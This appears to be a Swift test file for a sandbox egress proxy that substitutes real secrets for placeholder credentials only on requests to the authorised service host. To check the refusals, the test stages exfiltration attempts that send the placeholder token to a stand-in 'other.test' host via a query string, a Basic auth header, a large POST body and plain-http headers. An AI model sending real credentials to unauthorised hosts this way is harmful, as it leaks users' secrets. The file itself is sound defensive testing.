@testable import BurrowKit
@testable import BurrowSystem
@testable import BurrowHTTP
@testable import BurrowTLS
import Foundation
import Glibc
import XCTest

/// `credentials.services` at the proxy: the box holds a placeholder; the secret is presented only to
/// the service's host and the placeholder is refused on its way anywhere else. The box is the
/// attacker, played by a client in this process (the real image: BoxCredentialTests).
final class CredentialSwapTests: XCTestCase {
    static let secret = "s3cret-\(UInt64.random(in: 0...UInt64.max))"

    func testTheSecretReachesOnlyItsHostAndThePlaceholderIsRefusedElsewhere() async throws {
        let folder = try TemporaryDirectory.make("cred")
        defer { FileSystem.removeTree(folder) }
        let service = try HTTPSStandIn(folder: folder)
        let otherFolder = try TemporaryDirectory.make("cred-other")
        defer { FileSystem.removeTree(otherFolder) }
        let other = try HTTPSStandIn(name: "other.test", folder: otherFolder)
        defer { service.stop(); other.stop() }
        let variable = "BURROW_TEST_SERVICE_SECRET_\(UInt32.random(in: 0...UInt32.max))"
        setenv(variable, Self.secret, 1)
        let serviceHost = "service.test:\(service.port)", otherHost = "other.test:\(other.port)"
        let bearer = ServiceCredential(name: "svc", hosts: [serviceHost], header: "Authorization", format: "Bearer {secret}",
                                       source: .init(env: variable), placeholder: "SVC_TOKEN")
        let basic = ServiceCredential(name: "git", hosts: [serviceHost], basic: .init(username: "x-access-token"),
                                      source: .init(command: ["printenv", variable]), placeholder: "GIT_TOKEN")
        let interception = try Interception(burrow: "b1", extraCAs: [service.caFile, other.caFile], services: [bearer, basic])
        try FileSystem.writeAtomically(interception.trustBundle(), to: folder + "/bundle.pem")
        let policy = EgressPolicy(allow: [serviceHost, otherHost], resolve: ["service.test": "127.0.0.1", "other.test": "127.0.0.1"],
                                  rules: try NetworkRules([[otherHost: ["GET /**", "POST /**"]]]))
        let events = Locked<[NetEvent]>([])
        let proxy = try EgressProxy(socketPath: folder + "/proxy.sock", policy: policy, model: nil, interception: interception,
                                    allowPeer: { _ in true }) { event in events.withLock { $0.append(event) } }
        Task { await proxy.run() }
        defer { proxy.shutdown() }
        let trust = try TLSClientContext(extraCAs: [folder + "/bundle.pem"])
        let placeholder = bearer.placeholderValue(burrow: "b1"), gitPlaceholder = basic.placeholderValue(burrow: "b1")
        XCTAssertNotEqual(placeholder, gitPlaceholder)
        XCTAssertNotEqual(placeholder, bearer.placeholderValue(burrow: "b2"), "per burrow")
        let gitBasic = "Basic " + Data("x:\(gitPlaceholder)".utf8).base64EncodedString()
        try await withTimeout(30) {
            let box = try await BoxClient.open(folder + "/proxy.sock", host: "service.test", port: service.port, trust: trust)
            let used = try await BoxClient.ask(box, "GET /me HTTP/1.1\r\nHost: \(serviceHost)\r\nAuthorization: Bearer \(placeholder)\r\n\r\n")
            XCTAssertEqual(used.status, 200, used.body)
            let git = try await BoxClient.ask(box, "GET /repo HTTP/1.1\r\nHost: \(serviceHost)\r\nAuthorization: \(gitBasic)\r\n\r\n")
            XCTAssertEqual(git.status, 200, git.body)
            let toOther = try await BoxClient.open(folder + "/proxy.sock", host: "other.test", port: other.port, trust: trust)
            let leak = try await BoxClient.ask(toOther, "GET /x?t=\(placeholder) HTTP/1.1\r\nHost: \(otherHost)\r\n\r\n")
            XCTAssertEqual(leak.status, 403)
            XCTAssertTrue(leak.body.contains("exfiltration"), leak.body)
            let again = try await BoxClient.open(folder + "/proxy.sock", host: "other.test", port: other.port, trust: trust)
            let inHeader = try await BoxClient.ask(again, "GET / HTTP/1.1\r\nHost: \(otherHost)\r\nAuthorization: \(gitBasic)\r\n\r\n")
            XCTAssertEqual(inHeader.status, 403, "a placeholder inside basic credentials is seen too")
            let body = Array(String(repeating: "a", count: 70_000).utf8) + Array("x\(placeholder)y".utf8)
            let third = try await BoxClient.open(folder + "/proxy.sock", host: "other.test", port: other.port, trust: trust)
            try await third.stream.write(Array("POST /upload HTTP/1.1\r\nHost: \(otherHost)\r\nContent-Length: \(body.count)\r\n\r\n".utf8) + body)
            let head = try await third.readHead(StatusHead.self, limits: HTTPLimits())
            XCTAssertEqual(head?.status, 403, "a placeholder deep in a body is refused")
            let fine = try await BoxClient.open(folder + "/proxy.sock", host: "other.test", port: other.port, trust: trust)
            let probe = try await BoxClient.ask(fine, "GET /fine HTTP/1.1\r\nHost: \(otherHost)\r\n\r\n")
            XCTAssertEqual(probe.status, 200, "the other host itself is reachable: the refusals above are the placeholder's")
            // Plain http:// through the proxy: the same rules and the same placeholder check.
            let plainLeak = try await ProxyClient.exchange(folder + "/proxy.sock", "GET http://\(otherHost)/p HTTP/1.1\r\nHost: other.test\r\nX-T: \(placeholder)\r\n\r\n")
            XCTAssertEqual(plainLeak.status, 403)
            XCTAssertTrue(plainLeak.text.contains("exfiltration"), plainLeak.text)
            let plainRule = try await ProxyClient.exchange(folder + "/proxy.sock", "DELETE http://\(otherHost)/p HTTP/1.1\r\nHost: other.test\r\n\r\n")
            XCTAssertEqual(plainRule.status, 403)
            XCTAssertTrue(plainRule.text.contains("allows GET /**, POST /**"), plainRule.text)
        }
        let serviceSaw = service.seen.withLock { $0.map { $0.headers["Authorization"] ?? "" } }
        XCTAssertEqual(serviceSaw, ["Bearer \(Self.secret)", "Basic " + Data("x-access-token:\(Self.secret)".utf8).base64EncodedString()])
        // The refused upload's first pieces may have gone before the placeholder showed: an unfinished
        // request, which the stand-in keeps and a real server drops.
        XCTAssertEqual(other.seen.withLock { $0.map(\.target).filter { $0 != "/upload" } }, ["/fine"], "no head with a placeholder reached the other host")
        XCTAssertFalse(other.bodies.withLock { $0.contains { $0.count >= 70_000 || String(decoding: $0, as: UTF8.self).contains(placeholder) } })
        let recorded = events.withLock { $0 }
        let json = String(decoding: try JSONEncoder().encode(recorded), as: UTF8.self)
        XCTAssertFalse(json.contains(Self.secret), "the secret is in no event")
        XCTAssertEqual(recorded.filter { $0.decidedBy == "credential" && $0.phase == .denied }.map(\.credential), ["svc", "git", "svc", "svc"], json)
        XCTAssertEqual(recorded.filter { $0.phase == .closed && $0.host == "service.test" }.map(\.credential), ["svc", "git"], json)
    }

    func testMalformedServicesStopTheConfigNamingTheField() throws {
        func parse(_ services: String) throws -> Config {
            try ConfigLoader.parse(Array(#"{"credentials": {"services": [\#(services)]}}"#.utf8), file: "test.json")
        }
        let good = #"{"name": "gh", "hosts": ["api.github.com"], "header": "Authorization", "format": "Bearer {secret}", "source": {"command": ["gh", "auth", "token"]}, "placeholder": "GH_TOKEN"}"#
        XCTAssertEqual(try parse(good).credentials.services?.first?.name, "gh")
        let cases: [(String, String)] = [
            (good.replacingOccurrences(of: "api.github.com", with: "evil/x"), "credentials.services[0].hosts"),
            (good.replacingOccurrences(of: "Bearer {secret}", with: "Bearer"), "credentials.services[0].format"),
            (good.replacingOccurrences(of: #""command": ["gh", "auth", "token"]"#, with: #""env": "A", "file": "/b""#), "credentials.services[0].source"),
            (good.replacingOccurrences(of: "GH_TOKEN", with: "ANTHROPIC_API_KEY"), "credentials.services[0].placeholder"),
            (good.replacingOccurrences(of: #""header": "Authorization", "format": "Bearer {secret}", "#, with: ""), "credentials.services[0]"),
            (good.replacingOccurrences(of: #""name": "gh""#, with: #""name": "gh", "secret": "x""#), "secret"),
        ]
        XCTAssertThrowsError(try ConfigLoader.parse(Array(#"{"credentials": {"services": [\#(good)]}, "repos": [{"name": "r", "path": "/x", "credentialServices": ["nope"]}]}"#.utf8), file: "t.json")) {
            XCTAssertTrue("\($0)".contains("repos[0].credentialServices"), "\($0)")
        }
        for (json, field) in cases {
            XCTAssertThrowsError(try parse(json), field) { XCTAssertTrue("\($0)".contains(field), "\(field): \($0)") }
        }
    }
}
